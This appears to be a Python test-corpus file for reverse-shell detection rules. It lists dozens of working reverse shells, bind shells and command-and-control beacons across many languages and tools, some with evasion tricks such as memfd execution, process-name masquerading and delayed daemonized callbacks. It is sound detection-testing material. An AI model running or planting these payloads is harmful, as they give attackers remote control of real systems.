# SPDX-License-Identifier: Apache-2.0
"""Other spellings of every shape: the rules were not made from these, two thirds of them at most
were looked at since."""

from attacks import PROGRAM
from scenarios import Attack, CHILD_CONNECTS, NO_RECORD
from unusual import through

PYTHON_ASYNC = """\
import asyncio
async def main():
    r, w = await asyncio.open_connection("@H@", @P@)
    p = await asyncio.create_subprocess_exec("/bin/sh", stdin=-1, stdout=-1, stderr=-2)
    async def up():
        while b := await p.stdout.read(4096):
            w.write(b)
            await w.drain()
    t = asyncio.create_task(up())
    while b := await r.readline():
        p.stdin.write(b)
    p.kill()
asyncio.run(main())
"""
PYTHON_EXEC_LOOP = """\
import os, socket, subprocess
def main():
    sock = socket.socket()
    sock.connect(("@H@", @P@))
    while True:
        sock.send(b"$ ")
        data = sock.recv(1024)
        if not data or data.strip() == b"exit":
            return
        proc = subprocess.Popen(data, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        sock.send(proc.stdout.read() + proc.stderr.read())
main()
"""
PYTHON_MEMFD = """\
import os, urllib.request
fd = os.memfd_create("", 0)
os.write(fd, open("@C@/implant", "rb").read())
os.execv(f"/proc/self/fd/{fd}", ["[kworker/0:1]", "@H@", "@P@", "b"])
"""
PYTHON_MPTCP = """\
import os, socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
except OSError:
    s = socket.socket()
s.connect(("@H@", @P@))
os.set_inheritable(s.fileno(), True)
os.system(f"sh <&{s.fileno()} >&{s.fileno()} 2>&1")
"""
PYTHON_HTTP_JITTER = """\
import http.client, json, random, shlex, subprocess, time
while True:
    try:
        h = http.client.HTTPConnection("@H@", @P@, timeout=5)
        h.request("GET", "/task")
        task = h.getresponse().read().decode().strip()
        h.close()
        if task == "exit":
            break
        if task:
            out = subprocess.run(["/bin/sh", "-c", task], capture_output=True).stdout
            h = http.client.HTTPConnection("@H@", @P@, timeout=5)
            h.request("POST", "/r", out)
            h.getresponse()
            h.close()
    except OSError:
        pass
    time.sleep(0.25 + random.random() / 4)
"""
RUBY_BEACON = """\
require 'net/http'
u = URI('http://@H@:@P@/task')
loop do
  c = Net::HTTP.get(u)
  Net::HTTP.post(u, `#{c}`) unless c.empty?
  sleep 0.4
end
"""
PHP_BEACON = """\
<?php
while (true) {
    $c = @file_get_contents('http://@H@:@P@/task');
    if ($c) {
        $o = shell_exec($c);
        file_get_contents('http://@H@:@P@/r', false, stream_context_create(
            ['http' => ['method' => 'POST', 'content' => $o]]));
    }
    usleep(400000);
}
"""
GAWK_BEACON = """\
BEGIN {
  while (1) {
    s = "/inet/tcp/0/@H@/@P@"
    if ((s |& getline c) > 0) { while ((c | getline l) > 0) print l |& s; close(c) }
    close(s); system("sleep 0.4")
  }
}
"""
BASH_HTTP_BEACON = """\
while sleep 0.4; do
  exec 3<>/dev/tcp/@H@/@P@ || continue
  printf 'GET /task HTTP/1.0\\r\\n\\r\\n' >&3
  while read -r l && [ "$l" != $'\\r' ]; do :; done <&3
  c=$(cat <&3); exec 3>&-
  [ -n "$c" ] || continue
  o=$(eval "$c")
  exec 3<>/dev/tcp/@H@/@P@
  printf 'POST /r HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "${#o}" "$o" >&3; cat <&3 >/dev/null
  exec 3>&-
done
"""
LUA_BEACON = """\
local http = require('socket.http')
while true do
  local c = http.request('http://@H@:@P@/task')
  if c and #c > 0 then
    local p = io.popen(c); local o = p:read('*a'); p:close()
    http.request('http://@H@:@P@/r', o)
  end
  require('socket').sleep(0.4)
end
"""
PERL_UDP = """\
use IO::Socket::INET;
my $s = IO::Socket::INET->new(Proto => 'udp', LocalPort => @P@, LocalAddr => '@V@');
while (my $f = $s->recv(my $c, 4096)) { last if $c =~ /^exit/; $s->send(scalar `$c`, 0, $f) }
"""
PHP_PROGRAMS = """\
<?php
$s = stream_socket_client('tcp://@H@:@P@');
while (($l = fgets($s)) !== false) {
    $w = explode(' ', trim($l));
    if ($w[0] === 'exit') break;
    $p = proc_open($w, [1 => ['pipe', 'w']], $f);
    fwrite($s, stream_get_contents($f[1])); proc_close($p);
}
"""
LUA_FD3 = """\
local s = require('socket').tcp(); s:connect('@H@', @P@)
os.execute('exec /bin/sh <&' .. s:getfd() .. ' >&' .. s:getfd() .. ' 2>&1')
"""
JAVA_SHELL = """\
import java.io.*; import java.net.*;
public class S {
    static void pump(InputStream i, OutputStream o) {
        new Thread(() -> { try { byte[] b = new byte[4096]; int n;
            while ((n = i.read(b)) > 0) { o.write(b, 0, n); o.flush(); } } catch (IOException e) {} }).start();
    }
    public static void main(String[] a) throws Exception {
        Process p = new ProcessBuilder("/bin/bash").redirectErrorStream(true).start();
        Socket s = new Socket("@H@", @P@);
        pump(s.getInputStream(), p.getOutputStream()); pump(p.getInputStream(), s.getOutputStream());
        p.waitFor(); s.close();
    }
}
"""
JAVA_RCE = """\
public class R {
    public static void main(String[] a) throws Exception {
        Runtime.getRuntime().exec(new String[] {"bash", "-c",
            "exec 5<>/dev/tcp/@H@/@P@;cat <&5 | while read line; do $line 2>&5 >&5; done"}).waitFor();
    }
}
"""
NODE_SHELL = """\
(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);
var client=new net.Socket();client.connect(@P@,"@H@",function(){client.pipe(sh.stdin);
sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();
"""
GDB_PYTHON = "python import os,pty,socket;s=socket.create_connection(('@H@',@P@));" \
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
VIM_PYTHON = """\
let j = job_start(['nc.openbsd', '@H@', '@P@'], {'mode': 'nl', 'out_cb': 'G'})
func G(c, l)
  if a:l ==# 'exit'
    qa!
  endif
  call ch_sendraw(a:c, system(a:l))
endfunc
while 1
  sleep 50m
endwhile
"""
SETUP_PY = """\
import socket, subprocess
s = socket.create_connection(("@H@", @P@))
subprocess.call(["/bin/sh"], stdin=s, stdout=s, stderr=s)
"""
PYTHON_UDP_SERVER = """\
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("@V@", @P@))
while True:
    c, a = s.recvfrom(4096)
    if c.startswith(b"exit"):
        break
    s.sendto(subprocess.getoutput(c.decode()).encode() + b"\\n", a)
"""
PYTHON_LATE = """\
import os, socket, subprocess, sys, time
if os.fork():
    sys.exit()
os.setsid()
if os.fork():
    sys.exit()
time.sleep(65)
s = socket.create_connection(("@H@", @P@))
time.sleep(20)
subprocess.Popen(["bash", "--norc"], stdin=s, stdout=s, stderr=s).wait()
"""
PYTHON_TLS_LOOP = """\
import os, socket, ssl
c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
c.check_hostname = False
c.verify_mode = ssl.CERT_NONE
s = c.wrap_socket(socket.create_connection(("@H@", @P@)))
while True:
    d = s.recv(4096).decode()
    if not d or d.startswith("exit"):
        break
    s.sendall(os.popen(d).read().encode())
"""
RUBY_LOOP1 = "exit if fork;c=TCPSocket.new(\"@H@\",\"@P@\");while(l=c.gets);break if l=~/^exit/;" \
    "IO.popen(l,\"r\"){|io|c.print io.read};end"
PERL_TCP_SERVER = "use IO::Socket;$l=IO::Socket::INET->new(LocalAddr=>\"@V@\",LocalPort=>@P@," \
    "Listen=>1,ReuseAddr=>1);$c=$l->accept;while(<$c>){last if /^exit/;print $c `$_`}"
MAKEFILE = "all:\n\t@bash -c 'bash -i >& /dev/tcp/@H@/@P@ 0>&1'\n"

ATTACKS = [
    # ---- A
    Attack("v_bash_196_cron", "A", "shell", "cron", "tcp",
           "bash -c '0<&196;exec 196<>/dev/tcp/@H@/@P@; bash <&196 >&196 2>&196'"),
    Attack("v_bash_exec_web", "A", "shell", "web", "tcp",
           "bash -c 'exec /bin/sh 0</dev/tcp/@H@/@P@ 1>&0 2>&0'"),
    Attack("v_bash_from_pipe_cron", "A", "shell", "cron", "tcp",
           "printf '%s\\n' 'bash -i >& /dev/tcp/@H@/@P@ 0>&1' | base64 | base64 -d | bash"),
    Attack("v_bash_service", "A", "shell", "service", "tcp", "bash @D@/run",
           files={"run": "while :; do bash -i >& /dev/tcp/@H@/@P@ 0>&1; sleep 5; done\n"}),
    Attack("v_bash_unshare_cron", "A", "shell", "cron", "tcp",
           "unshare -pfm --mount-proc bash -c 'sh -i >& /dev/tcp/@H@/@P@ 0>&1'"),
    Attack("v_bash_nsenter_web", "A", "shell", "web", "tcp6",
           "nice setarch -R bash -c 'exec 3<>/dev/tcp/@H6@/@P@;bash -i <&3 >&3 2>&3'"),
    Attack("v_make_bash_ssh", "A", "build", "ssh", "tcp", "make -s -C @D@", needs=("make",),
           files={"Makefile": MAKEFILE}),
    Attack("v_script_tcp_cron", "A", "shell", "cron", "tcp",
           "bash -c 'exec 5<>/dev/tcp/@H@/@P@; script -qc /bin/bash /dev/null <&5 >&5 2>&5'",
           needs=("script",)),
    Attack("v_nc_loop_ssh", "A", "netcat", "ssh", "tcp",
           "while :; do nc.traditional @H@ @P@ -e /bin/sh; sleep 9; done &",
           needs=("nc.traditional",)),
    Attack("v_busybox_bash_web", "A", "netcat", "web", "tcp", "busybox nc @H@ @P@ -e /bin/bash",
           needs=("busybox",)),
    Attack("v_perl_bash_p_service", "A", "perl", "service", "tcp", "perl @D@/p", files={
        "p": "use Socket;socket(S,2,1,6);connect(S,pack_sockaddr_in(@P@,inet_aton('@H@')));"
             "open(STDIN,'<&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec {'/bin/bash'} '-p';\n"}),
    # ---- B
    Attack("v_php_fd3_cron", "B", "php", "cron", "tcp",
           "php -r '$s=fsockopen(\"@H@\",@P@);for($i=3;$i<9;$i++)"
           "if(@stat(\"/proc/self/fd/$i\")&&strpos(readlink(\"/proc/self/fd/$i\"),\"sock\")===0)"
           "{passthru(\"sh <&$i >&$i 2>&$i\");break;}'", needs=("php",)),
    Attack("v_lua_fd_web", "B", "lua", "web", "tcp", "lua5.4 @D@/l", needs=("lua5.4",),
           files={"l": LUA_FD3}),
    Attack("v_python_popen_cron", "B", "python", "cron", "tcp",
           "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"@H@\",@P@));"
           "subprocess.Popen([\"/bin/bash\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),"
           "stderr=s.fileno()).wait()'"),
    Attack("v_python_stdin_ssh", "B", "python", "ssh", "tcp",
           "echo 'import os,pty,socket;s=socket.create_connection((\"@H@\",@P@));"
           "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' | python3"),
    Attack("v_python_mptcp_cron", "B", "python", "cron", "tcp", "python3 @D@/m.py",
           files={"m.py": PYTHON_MPTCP}),
    Attack("v_python_memfd_web", "B", "binary", "web", "tcp", "python3 @D@/s.py",
           needs=("implant",), files={"s.py": PYTHON_MEMFD}),
    Attack("v_gdb_python_ssh", "B", "debugger", "ssh", "tcp",
           f"gdb -nx -q -batch -ex \"{GDB_PYTHON}\"", needs=("gdb",)),
    Attack("v_pip_setup_cron", "B", "package", "cron", "tcp", "cd @D@ && python3 setup.py install",
           files={"setup.py": SETUP_PY}),
    Attack("v_ncat_l_k_web", "B", "bind", "web", "bind", "ncat -l -k @V@ @P@ --sh-exec 'bash -i'",
           needs=("ncat",)),
    Attack("v_socat_pipes_service", "B", "socat", "service", "tcp",
           "socat EXEC:sh,pipes TCP4:@H@:@P@", needs=("socat",)),
    Attack("v_go_run_cron", "B", "go", "cron", "tcp", "cd @D@; HOME=@D@ GO111MODULE=off go run t.go",
           needs=("go",), patience=90, files={
               "t.go": 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp",'
                       '"@H@:@P@");cmd:=exec.Command("sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;'
                       'cmd.Run()}\n'}),
    Attack("v_java_bash_c_web", "E", "java", "web", "tcp", "java @D@/R.java",
           needs=("java", "javac"), files={"R.java": JAVA_RCE}, speaks=PROGRAM, patience=60),
    # ---- C
    Attack("v_python_async_cron", "C", "python", "cron", "tcp", "python3 @D@/a.py",
           files={"a.py": PYTHON_ASYNC}),
    Attack("v_java_relay_ssh", "C", "java", "ssh", "tcp", "java @D@/S.java",
           needs=("java", "javac"), files={"S.java": JAVA_SHELL}, patience=60),
    Attack("v_node_inline_web", "C", "node", "web", "tcp", "node @D@/n.js", needs=("node",),
           files={"n.js": NODE_SHELL}),
    # ---- D
    Attack("v_nc_mknod_cron", "D", "netcat", "cron", "tcp",
           "mknod @D@/b p; nc.openbsd @H@ @P@ 0<@D@/b | /bin/bash 1>@D@/b", needs=("nc.openbsd",)),
    Attack("v_nc_tail_ssh", "D", "netcat", "ssh", "tcp",
           "touch @D@/f; tail -f @D@/f | nc.openbsd @H@ @P@ | bash -i >@D@/f 2>&1",
           needs=("nc.openbsd",)),
    Attack("v_busybox_fifo_web", "D", "netcat", "web", "tcp",
           "busybox mkfifo @D@/p; busybox cat @D@/p | busybox sh -i 2>&1 | "
           "busybox nc @H@ @P@ >@D@/p", needs=("busybox",)),
    Attack("v_cat_sh_two_cron", "D", "netcat", "cron", "two",
           "busybox telnet @H@ @P@ | /bin/sh 2>&1 | busybox telnet @H@ @Q@", needs=("busybox",)),
    Attack("v_openssl_bash_i_ssh", "J", "openssl", "ssh", "tls",
           "mkfifo @D@/s; bash -i <@D@/s 2>&1 | openssl s_client -quiet -connect @H@:@P@ >@D@/s; "
           "rm @D@/s"),
    # ---- E
    Attack("v_python_prompt_cron", "E", "python", "cron", "tcp", "python3 @D@/e.py",
           files={"e.py": PYTHON_EXEC_LOOP}),
    Attack("v_ruby_popen_ssh", "E", "ruby", "ssh", "tcp", f"ruby -rsocket -e '{RUBY_LOOP1}'",
           needs=("ruby",)),
    Attack("v_perl_accept_cron", "E", "perl", "cron", "bind", f"perl -e '{PERL_TCP_SERVER}'"),
    Attack("v_bash_while_web", "E", "shell", "web", "tcp",
           "bash -c 'exec 5<>/dev/tcp/@H@/@P@; cat <&5 | while read l; do $l 2>&5 >&5; done'",
           speaks=PROGRAM),
    Attack("v_tclsh_stdin_cron", "E", "tcl", "cron", "tcp",
           "echo 'set s [socket @H@ @P@];while {[gets $s c]>=0} {if {$c eq \"exit\"} exit;"
           "catch {exec sh -c $c} r;puts $s $r;flush $s}' | tclsh", needs=("tclsh",)),
    Attack("v_zsh_loop_ssh", "E", "shell", "ssh", "tcp",
           "zsh -c 'zmodload zsh/net/tcp; ztcp @H@ @P@; while read -ru $REPLY c; do "
           "[ \"$c\" = exit ] && break; eval \"$c\" >&$REPLY 2>&1; done'", needs=("zsh",)),
    # ---- F
    Attack("v_implant_php_service", "F", "implant", "service", "tcp", "php @D@/i.php",
           needs=("php",), files={"i.php": PHP_PROGRAMS}, speaks=PROGRAM),
    Attack("v_implant_shm_web", "F", "implant", "web", "tcp",
           "cp @C@/implant /dev/shm/.k@P@; (/dev/shm/.k@P@ @H@ @P@ f &) ; sleep 8; rm /dev/shm/.k@P@",
           needs=("implant",), speaks=PROGRAM),
    # ---- G
    Attack("v_relay_fifo_pair_web", "G", "relay", "web", "tcp",
           "mkfifo @D@/i @D@/o; setsid -f sh -c 'sh <@D@/i >@D@/o 2>&1'; "
           "exec 3>@D@/i 4<@D@/o; nc.openbsd @H@ @P@ <&4 >&3", needs=("nc.openbsd",)),
    Attack("v_relay_ncat_unix_cron", "G", "relay", "cron", "tcp",
           "ncat -U -l @D@/u -e /bin/sh & sleep 0.4; mkfifo @D@/f; "
           "ncat -U @D@/u <@D@/f | nc.openbsd @H@ @P@ >@D@/f", needs=("ncat", "nc.openbsd")),
    # ---- H
    Attack("v_beacon_wget_pipe_web", "H", "beacon", "web", "http",
           "while :; do wget -qO- http://@H@:@P@/task | sh >@D@/o 2>&1; [ -s @D@/o ] && "
           "wget -qO- --post-file=@D@/o http://@H@:@P@/r; sleep 0.4; done", needs=("wget",)),
    Attack("v_beacon_jitter_cron", "H", "beacon", "cron", "http", "python3 @D@/j.py",
           files={"j.py": PYTHON_HTTP_JITTER}),
    Attack("v_beacon_ruby_ssh", "H", "beacon", "ssh", "http", "ruby @D@/b.rb &", needs=("ruby",),
           files={"b.rb": RUBY_BEACON}),
    Attack("v_beacon_php_web", "H", "beacon", "web", "http", "php @D@/b.php", needs=("php",),
           files={"b.php": PHP_BEACON}),
    Attack("v_beacon_gawk_cron", "H", "beacon", "cron", "one_by_one", "gawk -f @D@/b.awk",
           needs=("gawk",), files={"b.awk": GAWK_BEACON}),
    Attack("v_beacon_bash_http_web", "H", "beacon", "web", "http", "bash @D@/b.sh",
           files={"b.sh": BASH_HTTP_BEACON}),
    Attack("v_beacon_lua_cron", "H", "beacon", "cron", "http", "lua5.4 @D@/b.lua",
           needs=("lua5.4",), files={"b.lua": LUA_BEACON}),
    Attack("v_beacon_curl_file_ssh", "H", "beacon", "ssh", "http",
           "while sleep 0.5; do curl -so @D@/t http://@H@:@P@/task; [ -s @D@/t ] && "
           "bash @D@/t 2>&1 | curl -s --data-binary @- http://@H@:@P@/r; done &", needs=("curl",)),
    # ---- I
    Attack("v_loop_vim_job_cron", "I", "editor", "cron", "tcp", "vim -es -N -u NONE -S @D@/v",
           needs=("vim", "nc.openbsd"), files={"v": VIM_PYTHON}, unseen=CHILD_CONNECTS),
    Attack("v_loop_eval_read_web", "I", "text", "web", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | while read -r l; do eval \"$l\"; done "
           ">@D@/f 2>&1", needs=("nc.openbsd",)),
    Attack("v_loop_perl_stdin_cron", "I", "perl", "cron", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | perl -ne '$|=1;exit if /^exit/;print `$_`' "
           ">@D@/f", needs=("nc.openbsd",)),
    Attack("v_loop_awk_system_ssh", "I", "text", "ssh", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | mawk -W interactive '{system($0)}' >@D@/f",
           needs=("nc.openbsd", "mawk")),
    Attack("v_loop_ruby_stdin_web", "I", "language", "web", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | ruby -ne '$stdout.sync=true;"
           "exit if /^exit/;print `#{$_}`' >@D@/f", needs=("nc.openbsd", "ruby")),
    # ---- J
    Attack("v_tls_python_loop_web", "J", "python", "web", "tls", "python3 @D@/t.py",
           files={"t.py": PYTHON_TLS_LOOP}),
    Attack("v_script_fifo_ssh", "J", "wrapper", "ssh", "tcp",
           "mkfifo @D@/f; script -qfc 'sh -i' /dev/null <@D@/f 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("script", "nc.openbsd")),
    Attack("v_stdbuf_pipe_cron", "J", "wrapper", "cron", "tcp",
           "mkfifo @D@/f; stdbuf -o0 cat @D@/f | timeout 90 nice bash 2>&1 | "
           "stdbuf -o0 tee /dev/null | nohup nc.openbsd @H@ @P@ >@D@/f", needs=("nc.openbsd",)),
    Attack("v_ncat_ssl_bind_cron", "J", "wrapper", "cron", "tls",
           "ncat --ssl --ssl-alpn x @H@ @P@ --sh-exec 'exec bash 2>&1'", needs=("ncat",)),
    # ---- K
    Attack("v_door_udp_server_cron", "K", "python", "cron", "udp_bind", "python3 @D@/u.py",
           files={"u.py": PYTHON_UDP_SERVER}),
    Attack("v_door_udp_perl_ssh", "K", "perl", "ssh", "udp_bind", "perl @D@/u.pl &",
           files={"u.pl": PERL_UDP}, unseen=NO_RECORD),
    Attack("v_door_socat_udp_web", "K", "socat", "web", "udp_bind",
           "socat UDP-RECVFROM:@P@,bind=@V@,fork EXEC:sh", needs=("socat",), unseen=NO_RECORD),
    # ---- L
    Attack("v_late_daemon_ssh", "L", "python", "ssh", "tcp", "python3 @D@/l.py",
           files={"l.py": PYTHON_LATE}, patience=260.0),
    Attack("v_late_nc_cron", "L", "netcat", "cron", "tcp",
           "sleep 65; mkfifo @D@/f; sh -i <@D@/f 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("nc.openbsd",), patience=260.0),
]
